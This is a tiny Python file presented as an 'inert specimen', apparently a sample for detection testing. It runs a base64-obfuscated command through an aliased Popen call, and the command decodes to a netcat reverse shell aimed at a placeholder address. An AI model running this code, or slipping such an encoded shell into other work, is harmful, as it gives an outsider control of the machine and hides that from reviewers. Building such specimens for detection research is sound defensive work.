# Inert specimen. Trick: the command line is base64, and the process is started through an alias.
import base64
from subprocess import Popen as Bed

Bed(base64.b64decode("cm0gLWYgL3RtcC9mOyBta2ZpZm8gL3RtcC9mOyBjYXQgL3RtcC9mIHwgc2ggLWkgMj4mMSB8IG5jIDE5Mi4wLjIuMTAgNDQ0NCA+IC90bXAvZg==").decode(), shell=True)
